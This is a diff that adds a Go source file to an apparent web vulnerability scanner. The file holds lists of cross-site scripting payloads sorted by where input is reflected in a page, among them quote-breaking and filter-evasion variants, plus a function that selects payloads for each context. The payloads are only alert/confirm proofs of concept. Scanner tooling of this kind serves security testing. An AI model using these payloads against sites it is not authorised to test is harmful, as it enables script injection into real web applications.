@@ -0,0 +1,96 @@
+package active
+
+import (
+	"github.com/pyneda/sukyan/pkg/payloads"
+	"github.com/pyneda/sukyan/pkg/scan"
+)
+
+// xssContextPayloads are the payloads able to execute JavaScript from each reflection context
+var xssContextPayloads = map[scan.ReflectionContext][]string{
+	scan.ReflectionContextHTML: {
+		`<script>alert(1)</script>`,
+		`<svg onload="alert(1)"/>`,
+		`<img src=1 onerror=alert(1)>`,
+		`<script>{onerror=alert}throw 1</script>`,
+		`<details open ontoggle=alert()>`,
+		`<svg/onload=confirm()>`,
+		`<iframe/src=javascript:alert(1)>`,
+		`<d3"<"/onclick="1>[confirm` + "``" + `]"<">z`,
+		`</noscript><script>alert(1)</script>`,
+	},
+	scan.ReflectionContextDoubleQuotedAttribute: {
+		`"><svg onload=alert()>`,
+		`"><svg onload=alert()><b attr="`,
+		`"onmouseover="alert(1)"`,
+		`" onmouseover="alert(1)"`,
+		`" onload="alert(1)"`,
+		`\"><img%20src=x%20onerror=javascript:alert(` + "`1`" + `)>`,
+	},
+	scan.ReflectionContextSingleQuotedAttribute: {
+		`'><svg onload=alert()>`,
+		`'onmouseover='alert(1)'`,
+		`' onmouseover='alert(1)'`,
+		`' onload='alert(1)'`,
+	},
+	scan.ReflectionContextUnquotedAttribute: {
+		`><svg onload=alert()>`,
+		` onmouseover=alert(1) `,
+		`x onmouseover=alert(1)`,
+	},
+	scan.ReflectionContextScriptString: {
+		`'-alert()-'`,
+		`'-alert()//'`,
+		`';alert(1)//`,
+		`";alert(1)//`,
+		`"-alert(1)-"`,
+		`${alert(1)}`,
+		`%5c%27%3balert(1)%2f%2f`,
+		`&apos;-alert(1)-&apos;`,
+		`';window['ale'+'rt'](1);//`,
+		`</script><svg onload=alert()>`,
+		`</script><script>confirm()</script>`,
+	},
+	scan.ReflectionContextScript: {
+		`alert(1)`,
+		`;alert(1);`,
+		`;alert(1)//`,
+		`*/alert(1)//`,
+		`'}alert(1);{'`,
+		`confirm()`,
+		"(confirm``)",
+		`</script><svg onload=alert()>`,
+		`</script><script>confirm()</script>`,
+	},
+	scan.ReflectionContextURL: {
+		`javascript:alert(1)`,
+		`javascript:confirm()`,
+	},
+	scan.ReflectionContextStyle: {
+		`</style><svg onload=alert(1)>`,
+	},
+	scan.ReflectionContextComment: {
+		`--><svg onload=alert(1)>`,
+		`<!--<img src="--><img src=x onerror=javascript:alert(1)//">`,
+	},
+}
+
+// GetXSSPayloadsForReflectionContexts returns the XSS payloads appropriate for the contexts where an insertion point
+// is reflected. The full payload set is returned when none of the contexts is known, such as for insertion points
+// which have not been found reflected.
+func GetXSSPayloadsForReflectionContexts(contexts []string) []payloads.PayloadInterface {
+	var selected []payloads.PayloadInterface
+	seen := make(map[string]bool)
+	for _, context := range contexts {
+		for _, value := range xssContextPayloads[scan.ReflectionContext(context)] {
+			if seen[value] {
+				continue
+			}
+			seen[value] = true
+			selected = append(selected, payloads.GenericPayload{Value: value, Platform: "*"})
+		}
+	}
+	if len(selected) == 0 {
+		return payloads.GetXSSPayloads()
+	}
+	return selected
+}